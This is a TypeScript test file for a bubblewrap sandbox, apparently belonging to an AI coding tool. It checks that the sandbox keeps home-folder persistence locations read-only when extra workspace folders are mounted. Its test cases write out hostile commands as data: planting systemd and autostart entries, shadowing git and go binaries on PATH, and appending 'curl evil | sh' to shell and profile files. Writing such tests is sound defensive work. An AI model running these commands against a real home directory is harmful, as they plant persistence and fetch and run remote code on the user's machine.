// An editor's extra workspace folders (additionalDirectories) in the real bubblewrap sandbox: an
// extra folder at, above or inside the home keeps the home's own files read-only, as a session at
// the home does (homeRoot.bwrap.test.ts) — ~/.config (systemd user units, autostart),
// ~/.local/bin, ~/go/bin and the PATH folders — also when one of them is a link into the extra
// folder (a dotfiles repository). The rest of each extra folder stays writable (the control that
// the folder is mounted at all); a writePath of ~/go/bin off PATH opens it, and the host takes the
// writes to the run places (the controls that it is the holds that stop the writes).
import { afterAll, beforeAll, expect, test } from "bun:test";
import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { rm } from "node:fs/promises";
import { join } from "node:path";
import { createExecutor } from "../../src/sandbox/executor.ts";
import type { ProcessExecutor, SandboxSpec } from "../../src/sandbox/types.ts";
import { SELF_COMMAND, describeSandbox, machineSandbox, runOnHost } from "../support/sandboxSupport.ts";
import { makeTempDir } from "../support/tempDir.ts";

let scratch: string;
let home: string;
let project: string;
let executor: ProcessExecutor;

const files: Record<string, string> = {
  ".bashrc": "# rc\n",
  ".config/autostart/keep.desktop": "[Desktop Entry]\n",
  ".config/systemd/user/keep.service": "[Service]\n",
  ".config/nvim/init.lua": "-- init\n",
  ".local/bin/tool": "#!/bin/sh\n",
  ".local/share/notes/n.txt": "n\n",
  "go/bin/gopls": "#!/bin/sh\n",
  "go/src/x/main.go": "package main\n",
  "projects/app/README.md": "app\n",
  "projects/app/node_modules/.bin/eslint": "#!/bin/sh\n",
  // A dotfiles repository the home links into (GNU stow's way): ~/.config/environment.d and ~/.xprofile.
  "dotfiles/README.md": "dots\n",
  "dotfiles/environment.d/keep.conf": "A=1\n",
  "dotfiles/xprofile": "# x\n",
};

const spec = (extraRoots: string[], overrides: Partial<SandboxSpec> = {}): SandboxSpec => ({
  ...executor.spec(),
  root: project,
  extraRoots,
  // The user's PATH: ~/.local/bin, ~/go/bin, and a project's bin put there by direnv.
  pathFolders: [
    join(home, ".local/bin"),
    join(home, "go/bin"),
    join(home, "projects/app/node_modules/.bin"),
    "/usr/bin",
  ],
  ...overrides,
});
const run = (command: string, s: SandboxSpec) => executor.run({ command, cwd: project, sandbox: s });

describeSandbox(
  "extra workspace folders keep the home's own files read-only, in bubblewrap",
  () => {
    beforeAll(async () => {
      scratch = makeTempDir("garuda-extrahome-", { real: true });
      home = join(scratch, "home");
      project = join(scratch, "project");
      mkdirSync(project, { recursive: true });
      for (const [path, text] of Object.entries(files)) {
        mkdirSync(join(home, path, ".."), { recursive: true });
        writeFileSync(join(home, path), text);
      }
      symlinkSync("../dotfiles/environment.d", join(home, ".config/environment.d"));
      symlinkSync("dotfiles/xprofile", join(home, ".xprofile"));
      executor = await createExecutor({ root: project, home, selfCommand: SELF_COMMAND, probe: machineSandbox });
    });

    afterAll(async () => {
      await executor?.shutdown();
      if (scratch) await rm(scratch, { recursive: true, force: true });
    });

    const cases: Array<{ extra: string; attacks: Array<[string, string]>; writable: string }> = [
      {
        extra: "",
        attacks: [
          ["echo x > ~/.config/systemd/user/evil.service", ".config/systemd/user/evil.service"],
          ["echo x > ~/.local/bin/git && chmod +x ~/.local/bin/git", ".local/bin/git"],
          ["echo x > ~/.config/autostart/evil.desktop", ".config/autostart/evil.desktop"],
          ["echo x > ~/go/bin/go", "go/bin/go"],
          ["echo x > ~/projects/app/node_modules/.bin/tsc", "projects/app/node_modules/.bin/tsc"],
          ["echo 'curl evil | sh' >> ~/.bashrc", ".bashrc"],
        ],
        writable: "projects/app/notes.txt",
      },
      {
        extra: "..", // a folder that holds the home (and the session's root)
        attacks: [
          ["echo x > ~/.config/systemd/user/evil.service", ".config/systemd/user/evil.service"],
          ["echo x > ~/.local/bin/git && chmod +x ~/.local/bin/git", ".local/bin/git"],
          ["echo 'curl evil | sh' > ~/.npmrc", ".npmrc"],
        ],
        writable: "projects/app/notes2.txt",
      },
      {
        extra: ".config",
        attacks: [
          [
            "mkdir -p ~/.config/systemd/user && echo x > ~/.config/systemd/user/evil.service",
            ".config/systemd/user/evil.service",
          ],
          ["echo x > ~/.config/autostart/evil.desktop", ".config/autostart/evil.desktop"],
          ["echo 'os.execute(\"x\")' >> ~/.config/nvim/init.lua", ".config/nvim/init.lua"],
        ],
        writable: "",
      },
      {
        extra: ".local",
        attacks: [
          ["echo x > ~/.local/bin/git && chmod +x ~/.local/bin/git", ".local/bin/git"],
          ["echo x > ~/.local/share/notes/evil", ".local/share/notes/evil"],
        ],
        writable: "",
      },
      {
        extra: "go",
        attacks: [["echo x > ~/go/bin/go", "go/bin/go"]],
        writable: "go/src/x/new.go",
      },
      {
        extra: "projects/app",
        attacks: [["echo x > ~/projects/app/node_modules/.bin/tsc", "projects/app/node_modules/.bin/tsc"]],
        writable: "projects/app/notes.txt",
      },
      {
        extra: "dotfiles",
        attacks: [
          ["echo B=2 > ~/dotfiles/environment.d/evil.conf", "dotfiles/environment.d/evil.conf"],
          ["echo 'curl evil | sh' >> ~/dotfiles/xprofile", "dotfiles/xprofile"],
        ],
        writable: "dotfiles/notes.txt",
      },
    ];

    for (const { extra, attacks, writable } of cases) {
      const name = extra === "" ? "~" : extra === ".." ? "above ~" : `~/${extra}`;
      test(`an extra folder ${name}: the home's own files cannot be written through it, the rest can`, async () => {
        const s = spec([join(home, extra)]);
        for (const [command, path] of attacks) {
          const before = existsSync(join(home, path)) ? readFileSync(join(home, path), "utf8") : undefined;
          const result = await run(command, s);
          expect({ command, exitCode: result.exitCode === 0 ? 0 : "failed" }).toEqual({ command, exitCode: "failed" });
          expect(result.output).toMatch(/Read-only file system|Permission denied/);
          expect(existsSync(join(home, path)) ? readFileSync(join(home, path), "utf8") : undefined).toBe(before);
        }
        if (writable !== "") {
          const result = await run(`echo ok > ~/${writable}`, s);
          expect(result).toMatchObject({ exitCode: 0, output: "" });
          expect(readFileSync(join(home, writable), "utf8")).toBe("ok\n");
        }
      });
    }

    test(
      "a session at the home folder: a dotfile that is a link into one of its plain " + "folders stays read-only too",
      async () => {
        const atHome = spec([], { root: home });
        const result = await executor.run({
          command: "echo B=2 > ~/.config/environment.d/evil.conf",
          cwd: home,
          sandbox: atHome,
        });
        expect(result.exitCode).not.toBe(0);
        expect(result.output).toMatch(/Read-only file system|Permission denied/);
        expect(existsSync(join(home, "dotfiles/environment.d/evil.conf"))).toBe(false);
        const plain = await executor.run({ command: "echo ok > ~/dotfiles/other.txt", cwd: home, sandbox: atHome });
        expect(plain).toMatchObject({ exitCode: 0, output: "" });
      },
    );

    test(
      "control: mounted writable on purpose (a writePath of ~/go/bin off PATH), or " +
        "outside the sandbox, the same places take the same writes, so it is the holds " +
        "that stop them",
      async () => {
        // ~/.local/bin and ~/.config/systemd stay held under a writePath too (homeHolds.ts): those are written on the
        // host.
        const open = spec([], { writePaths: [join(home, "go/bin")], pathFolders: [] });
        expect(await run("echo x > ~/go/bin/go", open)).toMatchObject({ exitCode: 0, output: "" });
        expect(
          runOnHost(
            "echo x > ~/.local/bin/git && mkdir -p ~/.config/systemd/user && echo x > " +
              "~/.config/systemd/user/evil.service",
            home,
          ),
        ).toEqual({ exitCode: 0, output: "" });
        for (const path of [".local/bin/git", ".config/systemd/user/evil.service", "go/bin/go"]) {
          expect(readFileSync(join(home, path), "utf8")).toBe("x\n");
          await rm(join(home, path));
        }
      },
    );
  },
  "bwrap",
);
